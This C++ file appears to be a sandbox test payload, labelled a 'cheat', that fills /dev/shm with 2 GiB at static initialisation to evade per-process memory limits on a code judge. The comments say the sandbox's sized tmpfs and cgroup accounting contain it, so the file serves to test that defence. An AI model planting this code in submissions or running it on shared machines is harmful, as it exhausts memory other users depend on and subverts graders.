// Cheat: at static init, fill /dev/shm (a tmpfs every process may write) with 2 GiB, 32 MiB per
// file (each file stays under the probe's file-size limit), and keep going with the stub's
// answers. Per-process limits do not see tmpfs pages: a judge that leaves /dev/shm unsized, or
// shares the machine's, gives one submission 2 GiB of memory the machine never gets back while
// the files exist. The sandbox's /dev is a sized tmpfs of its own, gone with the step, and the
// step's cgroup (where the machine gives one) counts its pages with the rest of the step's memory.
// APPLIES: 05
// MODE: append
// PAYLOAD: BANKLAB-PAYLOAD-DEV-SHM
#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

namespace banklab_cheat_dev_shm {
const int kFilled = [] {
  std::printf("BANKLAB-PAYLOAD-DEV-SHM ran\n");
  std::fflush(stdout);
  std::vector<char> chunk(1 << 20, 'x');
  long long mib = 0;
  std::string why = "reached 2048 MiB";
  for (int f = 0; f < 64 && why == "reached 2048 MiB"; ++f) {
    const std::string name = "/dev/shm/banklab-cheat-shm-" + std::to_string(getpid()) + "-" + std::to_string(f);
    const int fd = open(name.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) {
      why = std::string("open: ") + std::strerror(errno);
      break;
    }
    for (int i = 0; i < 32; ++i) {
      if (write(fd, chunk.data(), chunk.size()) != static_cast<ssize_t>(chunk.size())) {
        why = std::string("write: ") + std::strerror(errno);
        break;
      }
      if (++mib % 64 == 0) {
        std::printf("BANKLAB-CHEAT-DEV-SHM held %lld MiB\n", mib);
        std::fflush(stdout);
      }
    }
    close(fd);
  }
  std::printf("BANKLAB-CHEAT-DEV-SHM held %lld MiB in the end (%s)\n", mib, why.c_str());
  std::fflush(stdout);
  return 0;
}();
}  // namespace banklab_cheat_dev_shm
